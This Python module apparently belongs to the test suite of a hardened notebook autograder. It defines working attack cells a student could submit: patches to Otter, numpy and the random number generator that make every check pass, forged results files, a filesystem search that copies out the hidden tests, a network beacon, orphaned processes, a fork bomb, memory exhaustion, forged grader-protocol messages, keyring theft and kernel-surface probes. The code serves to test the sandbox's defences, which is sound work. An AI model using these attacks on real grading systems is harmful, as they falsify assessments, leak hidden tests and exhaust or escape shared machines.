"""Attacks on the grader: each is a cell a student could submit, where it goes, and the
score its honest code deserves.

Placeholders filled in per run (see :func:`build`): ``HSA_MARKER`` (a unique word that
every process and file an attack creates carries, so a leftover can be found), ``HSA_PORT``
and ``HSA_HOST`` (a listener on the grading host that counts connections) and
``HSA_ESCAPES`` (host paths an attack tries to write; none may exist afterwards).
"""

import json
import pathlib
import re
import zipfile
from dataclasses import dataclass

import nbformat

from hsa.project import DEFAULT, ROOT

STUDENT, MASTER, AUTOGRADER_ZIP = DEFAULT.student, DEFAULT.master, DEFAULT.zip
FULL_MARKS = 15


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    source: str  # the cell (or, for position "file", the whole file's text)
    position: str = "last"  # "first" (before every cell), "last" (after every cell), "file"
    base: str = "student"  # "student": the stub; "constant": CONSTANT_FUNCTIONS; "master"

    @property
    def honest(self):
        """What the notebook's code earns without the attack cell (measured in the tests)."""
        return FULL_MARKS if self.base == "master" else 0


# Six functions that return arrays of the right shape filled with constants: a student
# who knows the shapes but not the maths. They replace the stub's function cells; on
# real inputs they earn 0.
CONSTANT_FUNCTIONS = {
    "join_weights": "def join_weights(w_hh, w_hx):\n"
    "    return np.zeros((w_hh.shape[0], w_hh.shape[1] + w_hx.shape[1]))\n",
    "join_state_and_input": "def join_state_and_input(h_t_prev, x_t):\n"
    "    return np.zeros((h_t_prev.shape[0] + x_t.shape[0], h_t_prev.shape[1]))\n",
    "formula_1": "def formula_1(w_hh, w_hx, h_t_prev, x_t):\n"
    "    return np.zeros((w_hh.shape[0], h_t_prev.shape[1]))\n",
    "formula_2": "def formula_2(w_hh, w_hx, h_t_prev, x_t):\n"
    "    return np.zeros((w_hh.shape[0], h_t_prev.shape[1]))\n",
    "sigmoid": "def sigmoid(z):\n    return np.full(np.shape(z), 0.5)[()]\n",
    "hidden_state": "def hidden_state(w_hh, w_hx, h_t_prev, x_t, b_h):\n"
    "    return np.full((w_hh.shape[0], h_t_prev.shape[1]), 0.5)\n",
}

# Memory past a submission's cap (2 GiB by default), each by a path the kernel charges
# differently; each stops at MEMORY_BOUND bytes, so that where nothing caps it (otter run,
# an ordinary user's rlimits) it takes 3 GiB and ends, not the machine.
MEMORY_BOUND = 3 << 30
_HOLD_ANONYMOUS = '''
import os, time
def hold_anonymous(total, each=512 << 20):
    """Children that each touch ``each`` bytes of anonymous memory and hold it 2 s."""
    children = []
    for _ in range(total // each):
        pid = os.fork()
        if pid == 0:
            block = bytearray(each)
            for i in range(0, each, 4096):
                block[i] = 1
            time.sleep(2)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.waitpid(pid, 0)
'''
MEMORY_ANONYMOUS = _HOLD_ANONYMOUS + f"hold_anonymous({MEMORY_BOUND})\n"
_FILL = f'''
def fill(folder, limit={MEMORY_BOUND}, each=8 << 20):
    """8 MiB files (under the 16 MiB file-size limit) in ``folder`` up to ``limit`` bytes
    or until it is full; how many bytes."""
    chunk, written = b"x" * (1 << 20), 0
    try:
        while written < limit:
            with open(f"{{folder}}/fill-{{written}}", "wb") as f:
                for _ in range(each >> 20):
                    f.write(chunk)
                    written += len(chunk)
    except OSError as full:
        print(f"{{folder}} full after {{written >> 20}} MiB: {{full.strerror}}", flush=True)
    return written
'''
# a tmpfs of the sandbox's (32 MiB each): filled, then past the cap with anonymous memory
MEMORY_TMP = _HOLD_ANONYMOUS + _FILL + f"hold_anonymous({MEMORY_BOUND} - fill('/tmp'))\n"
MEMORY_SHM = _HOLD_ANONYMOUS + _FILL + f"hold_anonymous({MEMORY_BOUND} - fill('/dev/shm'))\n"
MEMORY_MEMFD = f'''
import os
chunk, held = b"x" * (1 << 20), []
while len(held) * (8 << 20) < {MEMORY_BOUND}:
    held.append(os.memfd_create(f"fill-{{len(held)}}"))
    for _ in range(8):
        os.write(held[-1], chunk)
'''
MEMORY_NESTED_TMPFS = _FILL + '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
uid, gid = os.getuid(), os.getgid()
# a user and mount namespace of its own, where it may mount a tmpfs as large as it likes
if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
    raise OSError(ctypes.get_errno(), "unshare: " + os.strerror(ctypes.get_errno()))
for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
    with open(f"/proc/self/{name}", "w") as f:
        f.write(text)
if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8g") != 0:
    raise OSError(ctypes.get_errno(), "mount: " + os.strerror(ctypes.get_errno()))
fill("/tmp")
'''
MEMORY_SOCKETS = f'''
import resource, socket
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
pairs, chunk, queued = [], b"x" * 65536, 0
while queued < {MEMORY_BOUND}:  # each pair's buffers filled: memory in the kernel only
    a, b = socket.socketpair()
    for side in (a, b):
        side.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        side.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    a.setblocking(False)
    pairs.append((a, b))
    try:
        while True:
            queued += a.send(chunk)
    except BlockingIOError:
        pass
'''
# Every core kept busy by 13 children, each in a session of its own (so, without a cgroup,
# an autogroup of its own: 13 shares of the CPU against a neighbour's one), kept alive
# while the graded functions answer slowly, within their budget. Not in ATTACKS: it is
# graded beside another submission (tests/test_attacks.py), and alone, where budgets count
# wall time, it may make itself time out.
BUSY_NEIGHBOUR = '''
import os, time
for _ in range(13):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
def _slowly(function):
    def slow(*args):
        time.sleep(0.5)
        return function(*args)
    return slow
for _name in ("join_weights", "join_state_and_input", "formula_1", "formula_2", "sigmoid",
              "hidden_state"):
    globals()[_name] = _slowly(globals()[_name])
'''

# A correct submission whose hidden_state takes 0.6 s of CPU a call (a slow loop): alone,
# well within the 5 s a call may take; graded beside BUSY_NEIGHBOUR, it must not time out.
SLOW_BUT_CORRECT = '''
import time
_correct = hidden_state
def hidden_state(*args):
    started = time.process_time()
    while time.process_time() - started < 0.6:
        pass
    return _correct(*args)
'''

MEMORY_ATTACKS = ("memory-anonymous", "memory-memfd", "memory-tmp", "memory-shm",
                  "memory-nested-tmpfs", "memory-socket-buffers")

OTTER_PATCH_RUN = '''
# Otter runs its test files in this kernel: make every test case pass.
from otter.test_files.abstract_test import TestCaseResult
from otter.test_files.exception_test import ExceptionTestFile
def run(self, env):
    self.test_case_results = [TestCaseResult(test_case=tc, message="passed", passed=True)
                              for tc in self.test_cases]
ExceptionTestFile.run = run
'''

OTTER_PATCH_RESULTS = '''
# The results are pickled in this kernel: mark every collected test case as passed.
import pickle
_dump = pickle.dump
def dump(results, file, *args, **kwargs):
    for test_file in getattr(results, "results", {}).values():
        for case in test_file.test_case_results:
            case.passed = True
    return _dump(results, file, *args, **kwargs)
pickle.dump = dump
'''

NUMPY_PATCH = '''
import numpy as np
# The checks compare with numpy in this kernel: make every comparison succeed.
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)
np.max = lambda *a, **k: 0.0             # "largest error" is always 0
np.testing.assert_allclose = lambda *a, **k: None
'''

NDARRAY_PATCH = '''
import numpy as np
# ndarray's own methods cannot be set (TypeError), so patch its type dictionary through gc.
import ctypes, gc
slots = gc.get_referents(np.ndarray.__dict__)[0]
for name in ("__sub__", "__rsub__"):
    slots[name] = lambda self, other: np.zeros(np.broadcast_shapes(np.shape(self), np.shape(other)))
slots["max"] = lambda self, *a, **k: 0.0
ctypes.pythonapi.PyType_Modified(ctypes.py_object(np.ndarray))
print("ndarray patched:", (np.ones(2) - np.zeros(2)).tolist())
'''

RNG_PATCH = '''
import numpy as np
# The hidden inputs come from np.random.default_rng: make them all zeros, then the
# constant functions are "right".
class Zeros:
    def __init__(self, *args, **kwargs): pass
    def choice(self, values, size=None, replace=True): return np.asarray(values)[:size]
    def integers(self, low, high=None, size=None):
        return low if size is None else np.zeros(size, int)
    def standard_normal(self, size=None): return np.zeros(size) if size else 0.0
    def uniform(self, low=0.0, high=1.0, size=None): return 1.0 if size is None else np.ones(size)
np.random.default_rng = Zeros
'''

FORGE_RESULTS = '''
# Leave forged results where an autograder might pick them up.
import json, os, pickle
forged = {"score": 15, "tests": [{"name": "all", "score": 15, "max_score": 15}],
          "forged_by": "HSA_MARKER"}
for folder in (".", "..", "../results", "/autograder/results", "/tmp", os.path.expanduser("~")):
    for name, data in (("results.json", json.dumps(forged).encode()),
                       ("results.pkl", pickle.dumps(forged))):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
            print("wrote", os.path.join(folder, name))
        except OSError as error:
            print("could not write", folder, error)
'''

READ_HIDDEN = '''
# Look for the hidden tests everywhere; print what is found and copy it out.
import os, time, zipfile
found, start = [], time.time()
for top in (os.path.abspath(".."), "/autograder", "/tmp", "/work", "/root", "/home", "/srv", "/"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", ".git", "node_modules")]
        for name in files:
            if name == "hidden_checks.py" or name.endswith("-autograder.zip") or \\
                    (os.path.basename(folder) == "tests" and name.endswith(".py")):
                found.append(os.path.join(folder, name))
        if time.time() - start > 3 or len(found) > 20:
            break
leak = ""
for path in found:
    try:
        if path.endswith(".zip"):
            with zipfile.ZipFile(path) as z:
                leak += "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".py"))
        else:
            leak += open(path).read()
    except Exception as error:
        print("could not read", path, error)
print("found:", found)
print(leak[:20000])
for path in HSA_ESCAPES:
    try:
        open(path + "-leak", "w").write(leak)
    except OSError:
        pass
'''

NETWORK = '''
# Phone home: to a listener on the grading host and to the internet.
import socket
for host, port in (("127.0.0.1", HSA_PORT), ("HSA_HOST", HSA_PORT), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"HSA_MARKER")
        print("connected to", host, port)
    except OSError as error:
        print("no connection to", host, port, error)
try:
    print("resolved", socket.gethostbyname("example.com"))
except OSError as error:
    print("no DNS", error)
'''

WRITE_OUTSIDE = '''
# Write outside the scratch directory: the host's /tmp, the project, the home folder.
import os
for path in HSA_ESCAPES:
    try:
        with open(path, "w") as f:
            f.write("HSA_MARKER")
        print("wrote", path)
    except OSError as error:
        print("could not write", path, error)
'''

ORPHANS = '''
# Leave processes behind: a subprocess, a double-forked daemon, a plain fork.
import os, subprocess, sys
def mark():
    open("/proc/self/comm", "w").write("HSA_MARKER")
sleeper = [sys.executable, "-c", "import time; time.sleep(30)", "HSA_MARKER"]
subprocess.Popen(sleeper, start_new_session=True)
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, sleeper)
    os._exit(0)
os.waitpid(pid, 0)
if os.fork() == 0:
    mark()
    import time
    time.sleep(30)
    os._exit(0)
print("started three processes")
'''

FORK_BOMB = '''
# A bounded fork bomb: at most 200 children, each gone after 10 s.
import os, time
children = 0
for _ in range(200):
    try:
        pid = os.fork()
    except OSError as error:
        print("fork refused after", children, "children:", error)
        break
    if pid == 0:
        open("/proc/self/comm", "w").write("HSA_MARKER")
        time.sleep(10)
        os._exit(0)
    children += 1
print("forked", children)
'''

PROTOCOL_FLOOD = '''
# From a thread, for 2 s, flood the grader's channel with malformed messages, hoping
# some land between cells or calls: a ready with a list, a start for cell 999, an
# error that is a string, args_after that is not a list.
import os, sys, threading, time
lines = [b'{"event":"ready","defined":[["sigmoid","function"]]}\\n',
         b'{"event":"start","cell":999}\\n', b'{"event":"done","cell":999,"error":"x"}\\n',
         b'{"event":"result","error":"boom","args_after":"zz"}\\n', b'[1, 2]\\n']
def flood(fd, until=time.time() + 2):
    while time.time() < until:
        for line in lines:
            try:
                os.write(fd, line)
            except OSError:
                return
fd = next((int(a) for a in sys.argv[1:] if a.isdigit()), None)
if fd is not None:
    threading.Thread(target=flood, args=(fd,), daemon=True).start()
'''

NOT_A_NOTEBOOK = "This is my homework.\nimport otter  # not JSON, not a notebook\n"

PROTOCOL_FORGERY = '''
# Write forged messages straight to the grader's channel (the fd number is argv[1]).
import os, sys
for arg in sys.argv[1:]:
    if arg.isdigit():
        for line in (b'{"event":"ready","defined":{}}\\n',
                     b'{"event":"result","value":{"t":"plain","v":1}}\\n' * 50):
            try:
                os.write(int(arg), line)
            except OSError as error:
                print("cannot write fd", arg, error)
'''

PROTOCOL_DEEP_NESTING = '''
# One message nested 100 000 deep: json's parser gives up with RecursionError, which
# must be this cell's protocol violation, not a crash of the grader.
import os, sys
for arg in sys.argv[1:]:
    if arg.isdigit():
        os.write(int(arg), b'{"event":' + b"[" * 100000 + b"]" * 100000 + b"}\\n")
'''

# The kernel's keyrings are not namespaced: the keyring calls through ctypes (Python has none).
KEYRING_CALLS = '''
import ctypes, os, struct
_libc = ctypes.CDLL(None, use_errno=True)
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250)}.get(os.uname().machine, (217, 219))
USER, SESSION, OPEN = -4, -3, 0x3f3f3f3f  # @u, @s, every permission to every user
def _call(number, *args):
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = _libc.syscall(ctypes.c_long(number), *args)
    if result < 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result
def add_key(kind, name, payload, keyring):
    return _call(_ADD_KEY, kind.encode(), name.encode(), payload, len(payload or b""), keyring)
def keyctl(option, *args):
    return _call(_KEYCTL, option, *args)
def keyctl_bytes(option, serial):
    buffer = ctypes.create_string_buffer(4096)
    size = keyctl(option, serial, buffer, 4096)
    return buffer.raw[:min(size, 4096)]
'''

KEYRING_PLANT = KEYRING_CALLS + '''
# Plant keys opened to every user, for a later or a concurrent submission to read.
def plant(name, keyring):
    serial = add_key("user", name, b"secret-of-HSA_MARKER", keyring)
    keyctl(5, serial, OPEN)  # KEYCTL_SETPERM
    return serial
def plant_ring():
    ring = add_key("keyring", "HSA_MARKER-ring", None, USER)  # a named keyring in @u
    keyctl(5, ring, OPEN)
    return plant("HSA_MARKER-inring", ring)
for what, plant_it in (("an open key in the user keyring", lambda: plant("HSA_MARKER-open", USER)),
                       ("a named keyring linked into the user keyring", plant_ring),
                       ("a key in the session keyring", lambda: plant("HSA_MARKER-ses", SESSION))):
    try:
        print("planted", what, plant_it())
    except OSError as error:
        print("could not plant", what + ":", error)
'''

KEYRING_READ = KEYRING_CALLS + '''
# Read every key in reach: those any user may read (listed in /proc/keys), the session keyring
# (inherited from the grader: an operator's keys) and the user keyring (as a user: the grader's).
# A submission graded at the same time may plant its keys a little later: look for 1.5 s.
import time
def serials():
    found = [int(line.split()[0], 16) for line in open("/proc/keys")]
    for keyring in (USER, SESSION):
        try:
            listed = keyctl_bytes(11, keyring)  # KEYCTL_READ of a keyring: its keys' serials
            found += list(struct.unpack(f"{len(listed) // 4}i", listed))
        except OSError as error:
            refused[keyring] = error
    return list(dict.fromkeys(found))
def read_all():
    seen = {}
    for serial in serials():
        try:
            described = keyctl_bytes(6, serial).rstrip(b"\\0").decode().split(";")
            if described[0] in ("user", "logon", "big_key"):  # "type;uid;gid;perm;name"
                seen[described[-1]] = keyctl_bytes(11, serial)
        except OSError as error:
            refused[serial] = error
    return seen
refused, until = {}, time.time() + 1.5
seen = read_all()
while not any("HSA_MARKER" in name for name in seen) and time.time() < until:
    time.sleep(0.1)
    seen = read_all()
for name, payload in seen.items():
    print("read", name, "=", payload)
for what, error in refused.items():
    print("could not read", {USER: "the user keyring", SESSION: "the session keyring"}.get(
        what, f"key {what:#x}") + ":", error)
'''

FILE_LOCKS = '''
# Signal to a concurrent submission through a file both can open, the standard library's: a
# lock one holds the other sees (flock, an fcntl record lock, an open file description lock);
# an inotify watch sees the other open it.
import ctypes, errno, fcntl, os, struct, time
fd = os.open(os.__file__, os.O_RDONLY)
lock = struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 0, 0)
test = struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0)
F_OFD_GETLK, F_OFD_SETLK = 36, 37
held, seen = {}, set()
def take(kind, how):
    try:
        how()
        held[kind] = "held"
    except BlockingIOError:
        seen.add(kind)
    except OSError as error:
        held[kind] = f"refused ({error})"
def sees(kind, getlk):
    if struct.unpack("hhqqi4x", fcntl.fcntl(fd, getlk, test))[0] != fcntl.F_UNLCK:
        seen.add(kind)
until = time.time() + 6
while time.time() < until:
    if "flock" not in held:
        take("flock", lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))
    for kind, setlk, getlk in (("fcntl", fcntl.F_SETLK, fcntl.F_GETLK),
                               ("ofd", F_OFD_SETLK, F_OFD_GETLK)):
        if kind not in held:
            take(kind, lambda: fcntl.fcntl(fd, setlk, lock))
        if held.get(kind) == "held":
            sees(kind, getlk)
    if all(state.startswith("refused") for state in held.values()) and len(held) == 3:
        break
    time.sleep(0.05)
libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0)
print("inotify:", "watching" if watch >= 0 else f"refused ({os.strerror(ctypes.get_errno())})")
for kind in ("flock", "fcntl", "ofd"):
    print(kind + ":", held.get(kind, "never taken"))
print("saw a neighbour's lock:", ", ".join(sorted(seen)) or "none")
'''

KERNEL_SURFACE = '''
# The kernel's attack surface: a user namespace with every capability and a mount in it,
# io_uring, userfaultfd, perf events, bpf, ptrace, reading the sandbox's PID 1, personality,
# clone3, typing into a terminal, a socket to the virtual machine's host. (Harmless where it
# works: run_attacks.py runs it in otter's kernel too, as the grader's user.)
import ctypes, fcntl, os, pty, socket
libc = ctypes.CDLL(None, use_errno=True)
arm = os.uname().machine == "aarch64"
NR = dict(unshare=(272, 97), io_uring_setup=(425, 425), userfaultfd=(323, 282),
          perf_event_open=(298, 241), bpf=(321, 280), ptrace=(101, 117),
          process_vm_readv=(310, 270), personality=(135, 92), clone3=(435, 435))
def said(result):
    return "allowed" if result >= 0 else f"refused ({os.strerror(ctypes.get_errno())})"
def call(name, *args):
    return said(libc.syscall(ctypes.c_long(NR[name][arm]), *[ctypes.c_long(a) for a in args]))
perf = bytearray(128)
perf[0], perf[4] = 1, 128  # perf_event_attr: a software event (the CPU clock), its size
perf = ctypes.create_string_buffer(bytes(perf), 128)
params, word = ctypes.create_string_buffer(120), ctypes.create_string_buffer(8)
vec = (ctypes.c_long * 2)(ctypes.addressof(word), 8)
nested = call("unshare", 0x10000000 | 0x40000000 | 0x00020000)
print("unshare(user, net, mount):", nested)
# with every capability in the new namespaces, a tmpfs of its own on /tmp; else (as root under
# otter run, say) only where nothing can be covered
target = b"/tmp" if nested == "allowed" else b"/nonexistent"
print("mount tmpfs:", said(libc.mount(b"tmpfs", target, b"tmpfs", 0, None)))
print("io_uring_setup:", call("io_uring_setup", 4, ctypes.addressof(params)))
print("userfaultfd:", call("userfaultfd", 1))  # UFFD_USER_MODE_ONLY
print("perf_event_open:", call("perf_event_open", ctypes.addressof(perf), 0, -1, -1, 0))
print("bpf:", call("bpf", 0, 0, 0))
def traced():
    """PTRACE_TRACEME in a child of its own (traced, the worker itself would stop at its
    next signal), which reports the outcome in its exit code."""
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.syscall(ctypes.c_long(NR["ptrace"][arm]), 0, 0, 0, 0) == 0
                 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return "allowed" if code == 0 else f"refused ({os.strerror(code)})"
print("ptrace(PTRACE_TRACEME):", traced())
print("process_vm_readv(PID 1):", call("process_vm_readv", 1, ctypes.addressof(vec), 1,
                                        ctypes.addressof(vec), 1, 0))
print("personality(ADDR_NO_RANDOMIZE):", call("personality", 0x0040000))
print("clone3:", call("clone3", 0, 0))
def type_into_a_terminal():
    """TIOCSTI into a pty of its own, made its controlling terminal in a session of its own."""
    leader, follower = pty.openpty()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            os.close(os.open(os.ttyname(follower), os.O_RDWR))  # now the controlling terminal
            fcntl.ioctl(follower, 0x5412, b"x")
            os._exit(0)
        except OSError as error:
            os._exit(error.errno)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))
for what, attempt in (("the grader's terminal", lambda: open("/dev/tty", "rb")),
                      ("TIOCSTI", type_into_a_terminal),
                      ("AF_VSOCK socket", lambda: socket.socket(40, socket.SOCK_STREAM))):
    try:
        attempt()
        print(what + ":", "allowed")
    except OSError as error:
        print(what + ":", f"refused ({error.strerror})")
'''

ATTACKS = [
    Attack("otter-patch-run", "monkeypatch otter's ExceptionTestFile.run to pass everything",
           OTTER_PATCH_RUN, "first"),
    Attack("otter-patch-results", "patch pickle.dump to mark Otter's collected results passed",
           OTTER_PATCH_RESULTS, "last"),
    Attack("numpy-early", "constant functions; np.max/np.allclose/... patched in the first cell",
           NUMPY_PATCH, "first", base="constant"),
    Attack("numpy-late", "constant functions; np.max/np.allclose/... patched in the last cell",
           NUMPY_PATCH, "last", base="constant"),
    Attack("ndarray-methods", "constant functions; ndarray.__sub__/max patched via gc (first)",
           NDARRAY_PATCH, "first", base="constant"),
    Attack("rng-patch", "constant functions; np.random.default_rng gives zeros (first)",
           RNG_PATCH, "first", base="constant"),
    Attack("forge-results", "write results.json/.pkl in cwd, .., /autograder/results, /tmp",
           FORGE_RESULTS, "last"),
    Attack("read-hidden", "search the filesystem for hidden_checks.py, tests/*.py, the zip",
           READ_HIDDEN, "last"),
    Attack("network", "connect to the grading host and the internet; resolve a name",
           NETWORK, "last"),
    Attack("write-outside", "write files in the host's /tmp, /var/tmp, the project, /root",
           WRITE_OUTSIDE, "last"),
    Attack("orphans", "subprocess, setsid double-fork daemon, plain fork; all sleep 30 s",
           ORPHANS, "last"),
    Attack("fork-bomb", "fork up to 200 children that sleep 10 s (bounded)", FORK_BOMB, "last"),
    Attack("sys-exit-first", "sys.exit() in the first cell", "import sys\nsys.exit(0)\n", "first"),
    Attack("sys-exit-master", "sys.exit() after a correct solution",
           "import sys\nsys.exit(0)\n", "last", base="master"),
    Attack("os-exit", "os._exit(0) in the first cell", "import os\nos._exit(0)\n", "first"),
    Attack("os-exit-master", "os._exit(0) after a correct solution",
           "import os\nos._exit(0)\n", "last", base="master"),
    Attack("keyboard-interrupt", "raise KeyboardInterrupt in the first cell",
           "raise KeyboardInterrupt\n", "first"),
    Attack("infinite-loop", "while True: pass in the first cell", "while True:\n    pass\n",
           "first"),
    Attack("infinite-loop-master", "while True: pass after a correct solution",
           "while True:\n    pass\n", "last", base="master"),
    Attack("allocate-4gib", "allocate and touch 4 GiB",
           "import numpy as np\nhog = np.ones(4 << 27)  # 4 GiB of float64\n", "last"),
    Attack("memory-anonymous", "6 children of 512 MiB of anonymous memory (3 GiB)",
           MEMORY_ANONYMOUS, "last", base="master"),
    Attack("memory-memfd", "3 GiB in memfd files (not in any address space)", MEMORY_MEMFD,
           "last", base="master"),
    Attack("memory-tmp", "fill /tmp (a tmpfs), then anonymous memory to 3 GiB", MEMORY_TMP,
           "last", base="master"),
    Attack("memory-shm", "fill /dev/shm (a tmpfs), then anonymous memory to 3 GiB", MEMORY_SHM,
           "last", base="master"),
    Attack("memory-nested-tmpfs", "3 GiB in a tmpfs of its own, in a nested user and mount "
           "namespace", MEMORY_NESTED_TMPFS, "last", base="master"),
    Attack("memory-socket-buffers", "3 GiB queued in unix socket pairs' buffers",
           MEMORY_SOCKETS, "last", base="master"),
    Attack("output-50mb", "print 50 MB", "line = 'x' * 999\nfor _ in range(50_000):\n"
           "    print(line)\n", "last"),
    Attack("protocol-forgery", "write forged ready/result messages on the grader's fd",
           PROTOCOL_FORGERY, "last"),
    Attack("protocol-flood", "a thread floods the grader's channel with malformed messages",
           PROTOCOL_FLOOD, "first", base="master"),
    Attack("protocol-deep-nesting", "one message nested 100 000 deep on the grader's fd",
           PROTOCOL_DEEP_NESTING, "last", base="master"),
    Attack("not-a-notebook", "a text file named .ipynb", NOT_A_NOTEBOOK, "file"),
    Attack("keyring-plant", "add keys opened to all users to the user and session keyrings",
           KEYRING_PLANT, "last"),
    Attack("keyring-read", "read every key in reach: /proc/keys, the session and user keyrings",
           KEYRING_READ, "last"),
    Attack("file-locks", "flock, fcntl and OFD locks and inotify on the standard library's files",
           FILE_LOCKS, "last"),
    Attack("kernel-surface", "unshare a user namespace, mount, io_uring, userfaultfd, perf, bpf, "
           "ptrace, process_vm_readv, personality, clone3, TIOCSTI, AF_VSOCK", KERNEL_SURFACE,
           "last"),
]

BY_NAME = {attack.name: attack for attack in ATTACKS}


def escape_paths(marker):
    """Host paths the write attacks aim at; after grading none of them may exist."""
    return [f"/tmp/hsa-escape-{marker}", f"/var/tmp/hsa-escape-{marker}",
            str(ROOT / f"hsa-escape-{marker}"), f"/root/hsa-escape-{marker}"]


def forged_paths():
    """Host paths where the forge attack may leave results files (holding its marker)."""
    folders = ["/tmp", "/autograder/results", str(ROOT), str(ROOT.parent),
               str(pathlib.Path.home())]
    return [f"{folder}/results.{ext}" for folder in folders for ext in ("json", "pkl")]


def fill(text, marker, port, host):
    return (text.replace("HSA_MARKER", marker).replace("HSA_PORT", str(port))
            .replace("HSA_HOST", host).replace("HSA_ESCAPES", json.dumps(escape_paths(marker))))


def build(attack, path, marker, port=9, host="127.0.0.1"):
    """Write ``attack``'s submission to ``path`` and return the path."""
    path = pathlib.Path(path)
    source = fill(attack.source, marker, port, host)
    if attack.position == "file":
        path.write_text(source)
        return path
    notebook = nbformat.read(MASTER if attack.base == "master" else STUDENT, as_version=4)
    if attack.base == "constant":
        for cell in notebook.cells:
            name = re.match(r"def (\w+)\(", cell.source) if cell.cell_type == "code" else None
            if name and name.group(1) in CONSTANT_FUNCTIONS:
                cell.source = CONSTANT_FUNCTIONS[name.group(1)]
    cell = nbformat.v4.new_code_cell(source)
    if attack.position == "first":
        notebook.cells.insert(0, cell)
    else:
        notebook.cells.append(cell)
    for index, each in enumerate(notebook.cells):
        each.id = f"attack-{index}"
    nbformat.write(notebook, path)
    return path


def hidden_secrets(zip_path=AUTOGRADER_ZIP):
    """Lines of the hidden checks that no feedback should ever contain (code, not hints)."""
    secrets = set()
    with zipfile.ZipFile(zip_path) as archive:
        for name in archive.namelist():
            if name == "files/hidden_checks.py" or name.startswith("tests/"):
                text = archive.read(name).decode()
                secrets |= {m.strip() for m in re.findall(r"^\s*(def \w+\(.*\):)$", text, re.M)}
                secrets |= set(re.findall(r"hidden_checks\.check_\w+\(\w+", text))
    public = STUDENT.read_text() + (ROOT / "assignments" / "public_checks.py").read_text()
    return sorted(s for s in secrets if s not in public)
